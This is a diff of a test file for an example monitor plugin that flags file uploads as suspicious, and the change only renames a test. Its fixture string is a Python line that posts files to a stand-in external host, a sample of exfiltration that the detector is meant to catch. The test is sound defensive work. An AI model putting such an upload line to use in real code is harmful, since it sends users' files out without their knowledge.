@@ -10,7 +10,7 @@ import { scoreTree } from './score-tree.ts';
 const root = mkdtempSync(join(tmpdir(), 'monitor-example-'));
 afterAll(() => rmSync(root, { recursive: true, force: true }));
 
-it('the example finds uploads suspicious, the more so before any other request', async () => {
+it('the example monitor finds uploads suspicious, more so if they precede any other request', async () => {
   const file = fileURLToPath(new URL('../../../examples/plugins/monitor.ts', import.meta.url));
   const upload = 'requests.post("https://a.example", files=f)';
   const directory = makeMonitoredRun(root, {
